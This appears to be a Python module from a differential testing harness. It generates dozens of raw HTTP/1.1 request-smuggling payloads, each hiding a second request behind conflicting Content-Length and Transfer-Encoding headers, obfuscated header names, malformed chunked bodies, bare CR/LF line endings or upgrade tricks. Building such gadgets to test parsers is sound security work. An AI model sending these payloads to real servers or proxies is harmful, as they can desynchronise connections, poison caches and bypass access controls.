"""Requests that are written so that two programs might read them in two ways.

Each is a name and raw bytes; `/@` in a target becomes a path of the gadget's own. The request behind
it, which must reach an origin only when the access log says so, asks for `/smuggled`.
"""

from __future__ import annotations

INNER = "GET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n"
CHUNKED = "Transfer-Encoding: chunked\r\n"
UPGRADE = "Connection: Upgrade\r\nUpgrade: websocket\r\n"
H2C = "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n"


def post(fields: str, body: str = "", version: str = "HTTP/1.1") -> str:
    """A POST with these field lines."""
    return f"POST /@ {version}\r\nHost: a\r\n{fields}\r\n{body}"


def get(fields: str = "", target: str = "/@", version: str = "HTTP/1.1") -> str:
    """A GET with these field lines."""
    return f"GET {target} {version}\r\nHost: a\r\n{fields}\r\n"


def length(size: int) -> str:
    """Content-Length."""
    return f"Content-Length: {size}\r\n"


def chunked(body: str = "", end: str = "0\r\n\r\n") -> str:
    """A chunked body, and a request behind it."""
    return body + end + INNER


def lengths() -> dict[str, str]:
    """Transfer-Encoding and Content-Length against each other."""
    hidden = len("0\r\n\r\n" + INNER)
    found = {
        "cl.te": post(length(hidden) + CHUNKED, chunked()),
        "te.cl": post(CHUNKED + length(4), f"{len(INNER):x}\r\n{INNER}\r\n0\r\n\r\n"),
        "two lengths": post(length(0) + length(len(INNER)), INNER),
        "same length twice": post(length(5) + length(5), "hello" + INNER),
        "get with body": get(length(len(INNER))) + INNER,
        "te in 1.0": post(CHUNKED + length(5), chunked(), "HTTP/1.0"),
    }
    for value in ("5, 5", "+5", "-5", "0x5", "005", "5 5", "", "18446744073709551621"):
        found[f"length {value!r}"] = post(f"Content-Length: {value}\r\n", "hello" + INNER)
    codings = {
        "te twice": CHUNKED + CHUNKED,
        "te blank before colon": "Transfer-Encoding : chunked\r\n",
        "te blank before name": "X: y\r\n Transfer-Encoding: chunked\r\n",
        "te underscore": "Transfer_Encoding: chunked\r\n",
        "te two hyphens": "Transfer--Encoding: chunked\r\n",
        "te folded": "Transfer-Encoding:\r\n chunked\r\n",
        "te after bare cr": "X: y\rTransfer-Encoding: chunked\r\n",
        "te after bare lf": "X: y\nTransfer-Encoding: chunked\r\n",
        "te after nul": "X: y\0\r\nTransfer-Encoding: chunked\r\n",
        "te upper case": "TRANSFER-ENCODING: CHUNKED\r\n",
        "te dropped by connection": "Connection: Transfer-Encoding\r\n" + CHUNKED,
        "length dropped by connection": "Connection: Content-Length\r\n",
    }
    values = ("chunked, chunked", "identity", "identity, chunked", "chunked, identity", "xchunked")
    for value in (*values, '"chunked"', "\tchunked", "\x0bchunked", "chunked;x=y", "", "gzip, chunked"):
        codings[f"te {value!r}"] = f"Transfer-Encoding:{value}\r\n"
    for name, fields in codings.items():
        found[name] = post(fields + length(hidden), chunked())
        found[f"{name}, no length"] = post(fields, chunked())
    return found


def chunks() -> dict[str, str]:
    """Chunked bodies that are read in several ways."""
    bodies = {
        "plain": "5\r\nhello\r\n",
        "extension": "5;a=b\r\nhello\r\n",
        "extension with lf": "5;a\nhello\r\n",
        "extension with cr": "5;\rxx\r\nhello\r\n",
        "blank after size": "5 \r\nhello\r\n",
        "size with 0x": "0x5\r\nhello\r\n",
        "size with plus": "+5\r\nhello\r\n",
        "size too large": "10000000000000005\r\nhello\r\n",
        "bare lf": "5\nhello\n",
        "no end of data": "5\r\nhello",
        "two bytes for the end": "5\r\nhelloXX",
        "empty size": "\r\nhello\r\n",
    }
    found = {name: post(CHUNKED, chunked(body)) for name, body in bodies.items()}
    found["trailer length"] = post(CHUNKED, chunked(end="0\r\nContent-Length: 50\r\n\r\n"))
    found["trailer lf"] = post(CHUNKED, chunked(end="0\r\nX: y\n\r\n"))
    found["last chunk lf"] = post(CHUNKED, chunked(end="0\n\n"))
    return found


def heads() -> dict[str, str]:
    """Lines, targets, hosts and the rest of a head."""
    return {
        "pipelined": post(length(5), "hello") + INNER,
        "bare lf": "GET /@ HTTP/1.1\nHost: a\n\n" + INNER,
        "bare cr": "GET /@ HTTP/1.1\rHost: a\r\r" + INNER,
        "folded": get("X: y\r\n z\r\n"),
        "folded first": "GET /@ HTTP/1.1\r\n Host: a\r\nHost: b\r\n\r\n",
        "no colon": get("X\r\n"),
        "empty name": get(": x\r\n"),
        "two hosts": get("Host: b\r\n"),
        "no host": "GET /@ HTTP/1.1\r\n\r\n",
        "host with path": "GET /@ HTTP/1.1\r\nHost: a/b\r\n\r\n",
        "absolute": get(target="http://b/@"),
        "absolute with user": get(target="http://a@b/@"),
        "connect": "CONNECT a:80 HTTP/1.1\r\nHost: a\r\n\r\n" + INNER,
        "trace": "TRACE /@ HTTP/1.1\r\nHost: a\r\n\r\n",
        "options": "OPTIONS * HTTP/1.1\r\nHost: a\r\n\r\n",
        "blank in target": get(target="/@ x"),
        "tab in line": "GET\t/@\tHTTP/1.1\r\nHost: a\r\n\r\n",
        "two blanks": "GET  /@ HTTP/1.1\r\nHost: a\r\n\r\n",
        "0.9": "GET /@\r\n" + INNER,
        "1.2": get(version="HTTP/1.2"),
        "2.0": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + INNER,
        "expect": post("Expect: 100-continue\r\n" + length(5), "hello" + INNER),
        "expect other": post("Expect: 200-ok\r\n" + length(5), "hello" + INNER),
        "expect list": post("Expect: 100-continue, x\r\n" + length(5), "hello" + INNER),
        "upgrade with body": post(UPGRADE + length(len(INNER)), INNER),
        "upgrade": get(UPGRADE) + INNER,
        "upgrade to h2c": get(H2C) + INNER,
        "head with body": f"HEAD /@ HTTP/1.1\r\nHost: a\r\n{length(5)}\r\nhello" + INNER,
        "empty lines before": "\r\n\r\n" + get() + INNER,
    }


def every() -> dict[str, bytes]:
    """All of them, each with a path of its own."""
    groups = {"lengths": lengths(), "chunks": chunks(), "heads": heads()}
    found = {f"{group}: {name}": raw for group, of in groups.items() for name, raw in of.items()}
    return {
        name: raw.replace("/@", f"/gadget-{number}").encode("latin-1")
        for number, (name, raw) in enumerate(found.items())
    }
